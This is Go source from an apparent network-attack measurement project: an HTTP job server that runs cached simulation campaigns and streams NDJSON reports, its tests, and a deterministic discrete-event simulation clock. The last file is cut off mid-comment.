	// Drain: the runner fails queued jobs and exits; streaming handlers
	// finish writing their terminal events; then Shutdown closes idle
	// connections and the final checkpoint commits every stored cell.
	<-runnerDone
	shutdownCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	httpSrv.Shutdown(shutdownCtx)
	if err := s.saveCheckpoint(); err != nil {
		return err
	}
	if s.cfg.CheckpointPath != "" {
		s.logf("checkpoint: final flush, %d cells in %s", s.cache.stats().Cells, s.cfg.CheckpointPath)
	}
	return nil
}

// runner executes queued jobs one at a time until ctx is cancelled,
// then fails whatever is still queued so every handler's event channel
// terminates.
func (s *Server) runner(ctx context.Context) {
	for {
		select {
		case <-ctx.Done():
			for {
				select {
				case j := <-s.jobs:
					j.events <- streamEvent{Event: "error", Error: "server shutting down"}
					close(j.events)
				default:
					return
				}
			}
		case j := <-s.jobs:
			s.execute(ctx, j)
		}
	}
}

// execute runs one job, streaming progress into its event channel and
// closing it after the terminal event. Campaign jobs run through the
// cell cache and the shared arena pool; every other experiment
// dispatches through the registry unchanged.
func (s *Server) execute(ctx context.Context, j *job) {
	defer close(j.events)
	s.logf("job: %s", j.name)

	spec := j.spec
	spec.Progress = func(ev report.Progress) {
		j.events <- streamEvent{
			Event:       "progress",
			Dataset:     ev.Dataset,
			DoneShards:  ev.DoneShards,
			TotalShards: ev.TotalShards,
			Items:       ev.Items,
		}
	}

	var (
		rep          *report.Report
		err          error
		hits, misses *uint64
	)
	if j.name == "campaign" {
		before := s.cache.stats()
		cfg := campaign.ConfigFromSpec(spec)
		cfg.Cache = s.cache
		cfg.Arenas = s.arenas
		var cells []campaign.CellResult
		cells, err = campaign.RunContext(ctx, cfg)
		if err == nil {
			rep = campaign.Report(cells, j.spec)
		}
		after := s.cache.stats()
		h, m := after.Hits-before.Hits, after.Misses-before.Misses
		hits, misses = &h, &m
	} else {
		rep, err = report.Run(ctx, j.name, spec)
	}
	if err != nil {
		j.events <- streamEvent{Event: "error", Error: err.Error()}
		return
	}
	doc, err := report.JSON(rep)
	if err != nil {
		j.events <- streamEvent{Event: "error", Error: err.Error()}
		return
	}
	j.events <- streamEvent{Event: "report", CacheHits: hits, CacheMisses: misses, Report: doc}
}

// checkpointLoop writes the cache to disk every interval while it is
// dirty. The final flush on shutdown belongs to Run, not this loop, so
// exit here is silent.
func (s *Server) checkpointLoop(ctx context.Context, every time.Duration) {
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			if err := s.saveCheckpoint(); err != nil {
				s.logf("%v", err)
			}
		}
	}
}

// handler builds the HTTP mux. ctx is the server's lifetime: enqueue
// attempts race it so a request arriving during shutdown fails fast
// instead of queueing behind a runner that will never serve it.
func (s *Server) handler(ctx context.Context) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/experiments", s.handleExperiments)
	mux.HandleFunc("/cache", s.handleCache)
	mux.HandleFunc("/run/", func(w http.ResponseWriter, r *http.Request) {
		s.handleRun(ctx, w, r)
	})
	// Live profiling of the resident server (go tool pprof
	// http://ADDR/debug/pprof/profile): the server binds localhost by
	// default, and perf work on a warm cache needs exactly this view.
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// handleExperiments lists the registry: name and title per experiment,
// in canonical artifact order.
func (s *Server) handleExperiments(w http.ResponseWriter, r *http.Request) {
	type entry struct {
		Name  string `json:"name"`
		Title string `json:"title"`
	}
	var out []entry
	for _, e := range report.List() {
		out = append(out, entry{Name: e.Name, Title: e.Title})
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(out)
}

// handleCache reports the cell-cache counters.
func (s *Server) handleCache(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(s.cache.stats())
}

// handleRun enqueues /run/{experiment} and streams its NDJSON events.
// The handler drains the job's channel to completion even when the
// client disconnects — the runner must never block on a dead response.
func (s *Server) handleRun(ctx context.Context, w http.ResponseWriter, r *http.Request) {
	name := strings.TrimPrefix(r.URL.Path, "/run/")
	if name == "" || strings.Contains(name, "/") {
		http.Error(w, "usage: /run/{experiment}", http.StatusNotFound)
		return
	}
	if _, ok := report.Get(name); !ok {
		http.Error(w, fmt.Sprintf("unknown experiment %q", name), http.StatusNotFound)
		return
	}
	spec, err := specFromQuery(r)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}

	j := &job{name: name, spec: spec, events: make(chan streamEvent)}
	select {
	case s.jobs <- j:
	case <-ctx.Done():
		http.Error(w, "server shutting down", http.StatusServiceUnavailable)
		return
	}

	w.Header().Set("Content-Type", "application/x-ndjson")
	flusher, _ := w.(http.Flusher)
	enc := newEventEncoder()
	// One event variable for the whole stream: passing a fresh value
	// per iteration would re-box it into the encoder's interface
	// argument every event.
	var ev streamEvent
	for {
		var ok bool
		ev, ok = <-j.events
		if !ok {
			return
		}
		line, err := enc.encode(&ev)
		if err != nil {
			continue
		}
		// Write errors (client gone) are deliberately ignored: the
		// loop must run to channel close regardless.
		w.Write(line)
		if flusher != nil {
			flusher.Flush()
		}
	}
}

// eventEncoder packs streamEvents into NDJSON lines through one reused
// buffer and encoder: a sweep streams one progress event per shard
// (hundreds for a broad matrix, all of them cache hits on a warm
// server), and per-event encoder/buffer churn was the remaining
// allocation in the serve path.
type eventEncoder struct {
	buf bytes.Buffer
	enc *json.Encoder
}

func newEventEncoder() *eventEncoder {
	e := &eventEncoder{}
	e.enc = json.NewEncoder(&e.buf)
	return e
}

// encode returns ev as one newline-terminated JSON line. The returned
// bytes alias the encoder's buffer and are only valid until the next
// call.
func (e *eventEncoder) encode(ev *streamEvent) ([]byte, error) {
	e.buf.Reset()
	if err := e.enc.Encode(ev); err != nil {
		return nil, err
	}
	return e.buf.Bytes(), nil
}

// specFromQuery maps /run query parameters onto the registry Spec,
// mirroring the xlmeasure flags: n, seed, parallel, shard-size,
// sad-ports, trials, lattice-rank (integers), methods, victims,
// profiles, defenses, defense-sets, chain-depths, placement,
// transports (comma-separated keys) and downgrade (boolean). Unknown
// parameters are rejected so typos fail loudly instead of silently
// sweeping the full axis.
func specFromQuery(r *http.Request) (report.Spec, error) {
	var spec report.Spec
	spec.SampleCap = 10000 // the CLI's default cap; n=0 opts into full populations
	ints := map[string]*int{
		"n":            &spec.SampleCap,
		"parallel":     &spec.Parallelism,
		"shard-size":   &spec.ShardSize,
		"sad-ports":    &spec.SadPorts,
		"trials":       &spec.Trials,
		"lattice-rank": &spec.LatticeRank,
	}
	lists := map[string]*[]string{
		"methods":      &spec.Methods,
		"victims":      &spec.Victims,
		"profiles":     &spec.Profiles,
		"defenses":     &spec.Defenses,
		"defense-sets": &spec.DefenseSets,
		"chain-depths": &spec.ChainDepths,
		"placement":    &spec.Placements,
		"transports":   &spec.Transports,
		"deployments":  &spec.Deployments,
	}
	for key, vals := range r.URL.Query() {
		val := vals[len(vals)-1]
		switch {
		case key == "downgrade":
			v, err := strconv.ParseBool(val)
			if err != nil {
				return spec, fmt.Errorf("bad downgrade %q", val)
			}
			spec.Downgrade = v
		case key == "seed":
			v, err := strconv.ParseInt(val, 10, 64)
			if err != nil {
				return spec, fmt.Errorf("bad seed %q", val)
			}
			spec.Seed = v
		case ints[key] != nil:
			v, err := strconv.Atoi(val)
			if err != nil {
				return spec, fmt.Errorf("bad %s %q", key, val)
			}
			*ints[key] = v
		case lists[key] != nil:
			for _, k := range strings.Split(val, ",") {
				if k = strings.TrimSpace(k); k != "" {
					*lists[key] = append(*lists[key], k)
				}
			}
		default:
			return spec, fmt.Errorf("unknown parameter %q", key)
		}
	}
	return spec, nil
}

func (s *Server) logf(format string, args ...any) {
	if s.cfg.Log != nil {
		fmt.Fprintf(s.cfg.Log, "serve: "+format+"\n", args...)
	}
}
