package serve

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"path/filepath"
	"testing"
	"time"

	"crosslayer/internal/report"
)

// sweepQuery is the small campaign sweep the server tests submit: the
// same two-axis filter the campaign cache tests pin (1 method × 2
// victims × 2 profiles × rank-1 defense sets × 1 depth × 1 placement).
const sweepQuery = "seed=11&trials=2&lattice-rank=1&methods=hijack&victims=web,smtp&profiles=bind,dnsmasq&chain-depths=0&placement=stub"

// bindOnlyQuery is the filtered sweep whose cells are a strict subset
// of sweepQuery's (the dnsmasq column removed).
const bindOnlyQuery = "seed=11&trials=2&lattice-rank=1&methods=hijack&victims=web,smtp&profiles=bind&chain-depths=0&placement=stub"

// startServer runs a server on an ephemeral port and returns it with
// its cancel func and Run's result channel (so tests can wait for the
// shutdown path — including the final checkpoint — to finish).
func startServer(t *testing.T, cfg Config) (*Server, context.CancelFunc, chan error) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	s := New(cfg)
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx); close(done) }()
	select {
	case <-s.Ready():
	case err := <-done:
		cancel()
		t.Fatalf("server failed to start: %v", err)
	case <-time.After(10 * time.Second):
		cancel()
		t.Fatal("server never became ready")
	}
	t.Cleanup(func() {
		cancel()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Error("server never shut down")
		}
	})
	return s, cancel, done
}

// sweepResult is the decoded outcome of one streamed /run response.
type sweepResult struct {
	progress  int
	report    []byte // raw bytes of the terminal event's report field
	hits      uint64
	misses    uint64
	errMsg    string
	terminals int
}

// runSweep submits one /run request and decodes its NDJSON stream.
func runSweep(t *testing.T, addr, path string) sweepResult {
	t.Helper()
	resp, err := http.Get("http://" + addr + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: status %d", path, resp.StatusCode)
	}
	var r sweepResult
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 1<<16), 1<<26)
	for sc.Scan() {
		var ev streamEvent
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("bad NDJSON line %q: %v", sc.Text(), err)
		}
		switch ev.Event {
		case "progress":
			r.progress++
		case "report":
			r.terminals++
			r.report = append([]byte(nil), ev.Report...)
			if ev.CacheHits != nil {
				r.hits = *ev.CacheHits
			}
			if ev.CacheMisses != nil {
				r.misses = *ev.CacheMisses
			}
		case "error":
			r.terminals++
			r.errMsg = ev.Error
		default:
			t.Fatalf("unknown event %q", ev.Event)
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if r.terminals != 1 {
		t.Fatalf("stream had %d terminal events, want exactly 1", r.terminals)
	}
	if r.errMsg != "" {
		t.Fatalf("sweep failed: %s", r.errMsg)
	}
	return r
}

// renderText decodes a streamed report document and renders it as the
// byte-stable text artifact — the golden-suite oracle form.
func renderText(t *testing.T, doc []byte) string {
	t.Helper()
	rep, err := report.Decode(doc)
	if err != nil {
		t.Fatalf("streamed report does not decode: %v", err)
	}
	out, err := report.Render(rep, "text")
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// referenceText runs the same sweep directly through the registry (no
// server, no cache) and renders it as text.
func referenceText(t *testing.T, profiles []string) string {
	t.Helper()
	spec := report.Spec{
		SampleCap:   10000, // the server's default cap
		Seed:        11,
		Trials:      2,
		LatticeRank: 1,
		Methods:     []string{"hijack"},
		Victims:     []string{"web", "smtp"},
		Profiles:    profiles,
		ChainDepths: []string{"0"},
		Placements:  []string{"stub"},
	}
	rep, err := report.Run(context.Background(), "campaign", spec)
	if err != nil {
		t.Fatal(err)
	}
	out, err := report.Render(rep, "text")
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// TestServeWarmSweepByteIdentical: resubmitting a sweep to a warm
// server recomputes nothing — every cell is a cache hit — and the
// streamed report is byte-identical to the cold run's, at parallelism
// 1 and 4. The decoded report also matches a direct registry run, so
// the cache never changes what the golden suite would pin.
func TestServeWarmSweepByteIdentical(t *testing.T) {
	s, _, _ := startServer(t, Config{})

	cold := runSweep(t, s.Addr(), "/run/campaign?"+sweepQuery+"&parallel=1")
	if cold.hits != 0 || cold.misses == 0 {
		t.Fatalf("cold sweep: %d hits, %d misses; want 0 hits and every cell a miss", cold.hits, cold.misses)
	}
	if cold.progress == 0 {
		t.Fatal("cold sweep streamed no progress events")
	}

	for _, parallel := range []string{"1", "4"} {
		warm := runSweep(t, s.Addr(), "/run/campaign?"+sweepQuery+"&parallel="+parallel)
		if warm.hits != cold.misses || warm.misses != 0 {
			t.Fatalf("parallel=%s warm sweep: %d hits, %d misses; want %d hits and 0 misses",
				parallel, warm.hits, warm.misses, cold.misses)
		}
		if !bytes.Equal(warm.report, cold.report) {
			t.Fatalf("parallel=%s warm report bytes diverge from cold run", parallel)
		}
		if warm.progress == 0 {
			t.Fatalf("parallel=%s warm sweep streamed no progress events", parallel)
		}
	}

	if got, want := renderText(t, cold.report), referenceText(t, []string{"bind", "dnsmasq"}); got != want {
		t.Fatalf("server report diverges from direct registry run:\n--- server\n%s\n--- direct\n%s", got, want)
	}
}

// TestServeOverlappingSweepsShareCells: a filtered sweep warms exactly
// its cells; a later broader sweep hits every shared cell and computes
// only the rest — and still streams the report a cold full sweep
// would.
func TestServeOverlappingSweepsShareCells(t *testing.T) {
	s, _, _ := startServer(t, Config{})

	first := runSweep(t, s.Addr(), "/run/campaign?"+bindOnlyQuery+"&parallel=2")
	if first.hits != 0 {
		t.Fatalf("first sweep on a cold server hit %d cells", first.hits)
	}

	second := runSweep(t, s.Addr(), "/run/campaign?"+sweepQuery+"&parallel=2")
	if second.hits != first.misses {
		t.Fatalf("broader sweep hit %d cells, want every one of the first sweep's %d", second.hits, first.misses)
	}
	if second.misses == 0 {
		t.Fatal("broader sweep computed nothing new — filters did not overlap as intended")
	}

	if got, want := renderText(t, second.report), referenceText(t, []string{"bind", "dnsmasq"}); got != want {
		t.Fatalf("cache-assembled sweep diverges from direct registry run:\n--- server\n%s\n--- direct\n%s", got, want)
	}
}

// TestServeCheckpointResume: a server killed after a partial sweep
// writes its final checkpoint; a restarted server resumes from it —
// the repeated cells are all hits — and reproduces the full-sweep
// report byte-for-byte.
func TestServeCheckpointResume(t *testing.T) {
	cp := filepath.Join(t.TempDir(), "checkpoint.json")

	s1, cancel1, done1 := startServer(t, Config{CheckpointPath: cp})
	partial := runSweep(t, s1.Addr(), "/run/campaign?"+bindOnlyQuery+"&parallel=2")
	full := runSweep(t, s1.Addr(), "/run/campaign?"+sweepQuery+"&parallel=2")
	cancel1()
	if err := <-done1; err != nil {
		t.Fatalf("server shutdown: %v", err)
	}

	s2, _, _ := startServer(t, Config{CheckpointPath: cp})
	resumed := runSweep(t, s2.Addr(), "/run/campaign?"+sweepQuery+"&parallel=2")
	if want := partial.misses + full.misses; resumed.hits != want || resumed.misses != 0 {
		t.Fatalf("resumed sweep: %d hits, %d misses; want all %d cells from checkpoint",
			resumed.hits, resumed.misses, want)
	}
	if !bytes.Equal(resumed.report, full.report) {
		t.Fatal("checkpoint-resumed report bytes diverge from the pre-restart run")
	}
}

// TestServeShutdownFlushesMidQueueCheckpoint: cells stored before a
// cancellation survive to the checkpoint even though the sweep itself
// failed — the resume path recomputes only what never ran.
func TestServeCheckpointSkipsCleanRewrite(t *testing.T) {
	cp := filepath.Join(t.TempDir(), "checkpoint.json")

	s1, cancel1, done1 := startServer(t, Config{CheckpointPath: cp})
	runSweep(t, s1.Addr(), "/run/campaign?"+bindOnlyQuery+"&parallel=2")
	cancel1()
	if err := <-done1; err != nil {
		t.Fatalf("server shutdown: %v", err)
	}

	// A server that loads the checkpoint and computes nothing must not
	// rewrite it (the dirty flag gates the flush).
	s2, cancel2, done2 := startServer(t, Config{CheckpointPath: cp})
	warm := runSweep(t, s2.Addr(), "/run/campaign?"+bindOnlyQuery+"&parallel=2")
	if warm.misses != 0 {
		t.Fatalf("warm restart recomputed %d cells", warm.misses)
	}
	cells, clean := s2.cache.snapshot(false)
	if !clean || cells != nil {
		t.Fatal("cache dirty after an all-hits sweep; clean restarts would rewrite checkpoints forever")
	}
	cancel2()
	if err := <-done2; err != nil {
		t.Fatalf("second shutdown: %v", err)
	}
}

// TestServeEndpoints: the registry listing, the cache counters, and
// the request-validation failure modes.
func TestServeEndpoints(t *testing.T) {
	s, _, _ := startServer(t, Config{})

	resp, err := http.Get("http://" + s.Addr() + "/experiments")
	if err != nil {
		t.Fatal(err)
	}
	var entries []struct{ Name, Title string }
	if err := json.NewDecoder(resp.Body).Decode(&entries); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	found := false
	for _, e := range entries {
		if e.Name == "campaign" {
			found = true
		}
	}
	if !found {
		t.Fatalf("/experiments listing (%d entries) lacks the campaign", len(entries))
	}

	resp, err = http.Get("http://" + s.Addr() + "/cache")
	if err != nil {
		t.Fatal(err)
	}
	var stats CacheStats
	if err := json.NewDecoder(resp.Body).Decode(&stats); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if stats.Cells != 0 {
		t.Fatalf("cold server reports %d cached cells", stats.Cells)
	}

	for path, want := range map[string]int{
		"/run/no-such-experiment":    http.StatusNotFound,
		"/run/campaign?trials=bogus": http.StatusBadRequest,
		"/run/campaign?typo=1":       http.StatusBadRequest,
		"/run/":                      http.StatusNotFound,
	} {
		resp, err := http.Get("http://" + s.Addr() + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("GET %s: status %d, want %d", path, resp.StatusCode, want)
		}
	}
}

// TestEventEncoderSteadyStateAllocs pins the pooled NDJSON path: after
// warm-up, encoding a progress event through the per-job encoder must
// not allocate — cache-hit sweeps stream one event per shard and the
// serve path should add no per-event garbage on top.
func TestEventEncoderSteadyStateAllocs(t *testing.T) {
	enc := newEventEncoder()
	ev := streamEvent{Event: "progress", Dataset: "campaign", DoneShards: 12, TotalShards: 360, Items: 360}
	// Warm the buffer to its steady-state capacity.
	for i := 0; i < 8; i++ {
		if _, err := enc.encode(&ev); err != nil {
			t.Fatal(err)
		}
	}
	avg := testing.AllocsPerRun(200, func() {
		ev.DoneShards++
		line, err := enc.encode(&ev)
		if err != nil || len(line) == 0 {
			t.Fatal("encode failed")
		}
	})
	// encoding/json's internal encodeState pool can hand back a fresh
	// state under concurrent GC; allow a fraction, not a per-event
	// allocation.
	if avg > 0.5 {
		t.Fatalf("steady-state event encode allocates %.2f allocs/op, want ~0", avg)
	}
}

// TestServePprofEndpoint checks the profiling handlers are mounted on
// the job server's mux.
func TestServePprofEndpoint(t *testing.T) {
	s, cancel, _ := startServer(t, Config{})
	defer cancel()
	resp, err := http.Get("http://" + s.Addr() + "/debug/pprof/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /debug/pprof/cmdline: status %d", resp.StatusCode)
	}
}
