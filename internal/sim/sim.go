// Package sim provides a deterministic discrete-event simulation engine:
// a virtual clock, an event queue ordered by (time, sequence), and seeded
// random-number streams. Every experiment in this repository runs on
// virtual time, so attacks that take minutes of "Internet time" (e.g. a
// SadDNS port scan) complete in milliseconds of wall time and are
// reproducible bit-for-bit.
package sim

import (
	"container/heap"
	"fmt"
	"math/rand"
	"time"
)

// Action is a pre-allocated scheduled callback: scheduling a value
// that implements Action instead of a closure keeps the hot path
// allocation-free (a method value or closure literal costs one heap
// allocation per event; an Action pointer costs none).
type Action interface {
	// Fire runs the scheduled work.
	Fire()
}

// Event is a scheduled callback: either a plain closure (fn) or a
// pre-allocated Action (act). Exactly one of the two is set.
type event struct {
	at  time.Duration
	seq uint64
	fn  func()
	act Action
}

type eventQueue []*event

func (q eventQueue) Len() int { return len(q) }
func (q eventQueue) Less(i, j int) bool {
	if q[i].at != q[j].at {
		return q[i].at < q[j].at
	}
	return q[i].seq < q[j].seq
}
func (q eventQueue) Swap(i, j int)       { q[i], q[j] = q[j], q[i] }
func (q *eventQueue) Push(x interface{}) { *q = append(*q, x.(*event)) }
func (q *eventQueue) Pop() interface{} {
	old := *q
	n := len(old)
	e := old[n-1]
	old[n-1] = nil
	*q = old[:n-1]
	return e
}

// Clock is the discrete-event scheduler. The zero value is not usable;
// construct with NewClock.
type Clock struct {
	now    time.Duration
	seq    uint64
	queue  eventQueue
	free   []*event // recycled event nodes; single-goroutine, so no locking
	rng    *rand.Rand
	limit  int // safety valve: max events per Run, 0 = unlimited
	nextID uint64
}

// NewClock returns a scheduler whose virtual time starts at zero and
// whose random stream is seeded with seed.
func NewClock(seed int64) *Clock {
	return &Clock{rng: rand.New(rand.NewSource(seed))}
}

// Now returns the current virtual time.
func (c *Clock) Now() time.Duration { return c.now }

// Rand returns the clock's deterministic random stream.
func (c *Clock) Rand() *rand.Rand { return c.rng }

// NewRand derives an independent deterministic stream from the clock's
// seed space; use one stream per stochastic subsystem so adding events
// in one subsystem does not perturb another.
func (c *Clock) NewRand() *rand.Rand {
	c.nextID++
	return rand.New(rand.NewSource(c.rng.Int63() ^ int64(c.nextID)))
}

// SetEventLimit bounds the number of events a single Run/RunUntil may
// process; 0 removes the bound. It protects tests from runaway
// feedback loops (e.g. two hosts ping-ponging packets forever).
func (c *Clock) SetEventLimit(n int) { c.limit = n }

// alloc takes an event node from the free list (or the heap when the
// list is empty), stamps it with t and the next sequence number, and
// returns it. Recycling nodes keeps steady-state scheduling
// allocation-free; the (time, seq) ordering discipline is untouched,
// so event interleaving — and therefore every golden artifact — is
// byte-identical to the always-allocate version.
func (c *Clock) alloc(t time.Duration) *event {
	if t < c.now {
		panic(fmt.Sprintf("sim: scheduling event at %v before now %v", t, c.now))
	}
	c.seq++
	var e *event
	if n := len(c.free); n > 0 {
		e = c.free[n-1]
		c.free[n-1] = nil
		c.free = c.free[:n-1]
	} else {
		e = &event{}
	}
	e.at = t
	e.seq = c.seq
	return e
}

// At schedules fn to run at absolute virtual time t. Scheduling in the
// past panics: that is always a logic error in a discrete-event model.
func (c *Clock) At(t time.Duration, fn func()) {
	e := c.alloc(t)
	e.fn = fn
	heap.Push(&c.queue, e)
}

// After schedules fn to run d after the current virtual time.
func (c *Clock) After(d time.Duration, fn func()) {
	if d < 0 {
		d = 0
	}
	c.At(c.now+d, fn)
}

// AtAction schedules act.Fire to run at absolute virtual time t
// without allocating a closure; see Action.
func (c *Clock) AtAction(t time.Duration, act Action) {
	e := c.alloc(t)
	e.act = act
	heap.Push(&c.queue, e)
}

// AfterAction schedules act.Fire to run d after the current virtual
// time without allocating a closure.
func (c *Clock) AfterAction(d time.Duration, act Action) {
	if d < 0 {
		d = 0
	}
	c.AtAction(c.now+d, act)
}

// Pending reports the number of queued events.
func (c *Clock) Pending() int { return len(c.queue) }

// Step runs the single earliest event, advancing the clock to its
// timestamp. It reports whether an event was run.
func (c *Clock) Step() bool {
	if len(c.queue) == 0 {
		return false
	}
	e := heap.Pop(&c.queue).(*event)
	c.now = e.at
	fn, act := e.fn, e.act
	e.fn, e.act = nil, nil
	c.free = append(c.free, e)
	if act != nil {
		act.Fire()
	} else {
		fn()
	}
	return true
}

// Run processes events until the queue is empty (or the event limit is
// reached). It returns the number of events processed.
func (c *Clock) Run() int {
	n := 0
	for c.Step() {
		n++
		if c.limit > 0 && n >= c.limit {
			break
		}
	}
	return n
}

// RunUntil processes events with timestamps <= deadline, then advances
// the clock to deadline. It returns the number of events processed.
// If the event limit stops processing early, the clock stays at the
// last processed event instead of jumping to the deadline, so the
// still-queued events are not stranded in the clock's past.
func (c *Clock) RunUntil(deadline time.Duration) int {
	n := 0
	for len(c.queue) > 0 && c.queue[0].at <= deadline {
		if c.limit > 0 && n >= c.limit {
			return n
		}
		if !c.Step() {
			break
		}
		n++
	}
	if c.now < deadline {
		c.now = deadline
	}
	return n
}

// RunFor processes events for d of virtual time from now.
func (c *Clock) RunFor(d time.Duration) int { return c.RunUntil(c.now + d) }
