// Package sim provides a deterministic discrete-event simulation engine:
// a virtual clock, an event queue ordered by (time, sequence), and seeded
// random-number streams. Every experiment in this repository runs on
// virtual time, so attacks that take minutes of "Internet time" (e.g. a
// SadDNS port scan) complete in milliseconds of wall time and are
// reproducible bit-for-bit.
package sim

import (
	"container/heap"
	"fmt"
	"math/rand"
	"sort"
	"time"
)

// Action is a pre-allocated scheduled callback: scheduling a value
// that implements Action instead of a closure keeps the hot path
// allocation-free (a method value or closure literal costs one heap
// allocation per event; an Action pointer costs none).
type Action interface {
	// Fire runs the scheduled work.
	Fire()
}

// Event is a scheduled callback: either a plain closure (fn) or a
// pre-allocated Action (act). Exactly one of the two is set.
type event struct {
	at  time.Duration
	fn  func()
	act Action
}

// bucket holds every event scheduled for one timestamp, in insertion
// order. The scheduler's contract is (time, sequence) ordering; within
// one timestamp that is exactly FIFO, so a bucket needs no per-event
// sequence numbers — and draining a same-time burst (the paper's
// floods park tens of thousands of deliveries at now+latency) costs
// O(1) per event instead of an O(log n) heap sift with comparison
// calls.
type bucket struct {
	at   time.Duration
	evs  []*event
	head int
}

// bucketQueue is a min-heap of buckets by timestamp. Timestamps are
// unique across live buckets (one bucket per distinct time), so the
// ordering needs no tie-break.
type bucketQueue []*bucket

func (q bucketQueue) Len() int            { return len(q) }
func (q bucketQueue) Less(i, j int) bool  { return q[i].at < q[j].at }
func (q bucketQueue) Swap(i, j int)       { q[i], q[j] = q[j], q[i] }
func (q *bucketQueue) Push(x interface{}) { *q = append(*q, x.(*bucket)) }
func (q *bucketQueue) Pop() interface{} {
	old := *q
	n := len(old)
	b := old[n-1]
	old[n-1] = nil
	*q = old[:n-1]
	return b
}

// EventPool is a freelist of event nodes and timestamp buckets that
// can outlive a single Clock: a worker that builds many clocks over
// its lifetime hands the same pool to each so the nodes (and the large
// burst-sized bucket slices) warmed up by one simulation are reused by
// the next. Single-goroutine, like the Clock itself.
type EventPool struct {
	free        []*event
	freeBuckets []*bucket
}

func (p *EventPool) getBucket(at time.Duration) *bucket {
	var b *bucket
	if n := len(p.freeBuckets); n > 0 {
		b = p.freeBuckets[n-1]
		p.freeBuckets[n-1] = nil
		p.freeBuckets = p.freeBuckets[:n-1]
	} else {
		b = &bucket{}
	}
	b.at = at
	b.evs = b.evs[:0]
	b.head = 0
	return b
}

func (p *EventPool) putBucket(b *bucket) {
	p.freeBuckets = append(p.freeBuckets, b)
}

// Retained reports how many nodes the pool currently holds: free
// event nodes plus free timestamp buckets.
func (p *EventPool) Retained() int { return len(p.free) + len(p.freeBuckets) }

// Trim drops pooled nodes until at most max event nodes and at most
// max buckets remain — the retention bound a resident process applies
// between jobs, mirroring pool.Wire.Trim: a sweep that briefly parked
// a flood burst's worth of nodes does not pin them forever. Buckets
// with the largest warmed event slices are kept preferentially (they
// are the expensive ones to re-grow). Trim(0) empties the pool; it
// never affects correctness, only what the next simulation must
// re-allocate.
func (p *EventPool) Trim(max int) {
	if max < 0 {
		max = 0
	}
	for i := max; i < len(p.free); i++ {
		p.free[i] = nil
	}
	if len(p.free) > max {
		p.free = p.free[:max]
	}
	if len(p.freeBuckets) > max {
		// Keep the buckets with the largest burst capacity.
		sort.Slice(p.freeBuckets, func(i, j int) bool {
			return cap(p.freeBuckets[i].evs) > cap(p.freeBuckets[j].evs)
		})
		for i := max; i < len(p.freeBuckets); i++ {
			p.freeBuckets[i] = nil
		}
		p.freeBuckets = p.freeBuckets[:max]
	}
}

// Clock is the discrete-event scheduler. The zero value is not usable;
// construct with NewClock.
type Clock struct {
	now     time.Duration
	queue   bucketQueue
	byTime  map[time.Duration]*bucket
	pending int
	pool    *EventPool // recycled event/bucket nodes; single-goroutine, so no locking
	rng     *rand.Rand
	limit   int // safety valve: max events per Run, 0 = unlimited
	nextID  uint64
}

// NewClock returns a scheduler whose virtual time starts at zero and
// whose random stream is seeded with seed.
func NewClock(seed int64) *Clock {
	return &Clock{
		rng:    rand.New(rand.NewSource(seed)),
		pool:   &EventPool{},
		byTime: make(map[time.Duration]*bucket),
	}
}

// SetEventPool replaces the clock's private event freelist with a
// shared one, so warmed-up nodes survive across clocks. A nil pool is
// ignored. Call before scheduling; the pool must only ever be used
// from one goroutine at a time.
func (c *Clock) SetEventPool(p *EventPool) {
	if p != nil {
		c.pool = p
	}
}

// Reset rewinds the clock to its post-NewClock state: pending events
// are drained into the freelist, virtual time returns to zero, and the
// random streams are reseeded with seed — so a reset clock replays
// exactly like a fresh NewClock(seed). The event freelist (and any
// shared EventPool) keeps its warmed-up nodes.
func (c *Clock) Reset(seed int64) {
	for i, b := range c.queue {
		for j := b.head; j < len(b.evs); j++ {
			e := b.evs[j]
			e.fn, e.act = nil, nil
			b.evs[j] = nil
			c.pool.free = append(c.pool.free, e)
		}
		c.pool.putBucket(b)
		c.queue[i] = nil
	}
	c.queue = c.queue[:0]
	clear(c.byTime)
	c.pending = 0
	c.now = 0
	c.nextID = 0
	c.rng.Seed(seed)
}

// Now returns the current virtual time.
func (c *Clock) Now() time.Duration { return c.now }

// Rand returns the clock's deterministic random stream.
func (c *Clock) Rand() *rand.Rand { return c.rng }

// NewRand derives an independent deterministic stream from the clock's
// seed space; use one stream per stochastic subsystem so adding events
// in one subsystem does not perturb another.
func (c *Clock) NewRand() *rand.Rand {
	c.nextID++
	return rand.New(rand.NewSource(c.rng.Int63() ^ int64(c.nextID)))
}

// SetEventLimit bounds the number of events a single Run/RunUntil may
// process; 0 removes the bound. It protects tests from runaway
// feedback loops (e.g. two hosts ping-ponging packets forever).
func (c *Clock) SetEventLimit(n int) { c.limit = n }

// alloc takes an event node from the free list (or the heap when the
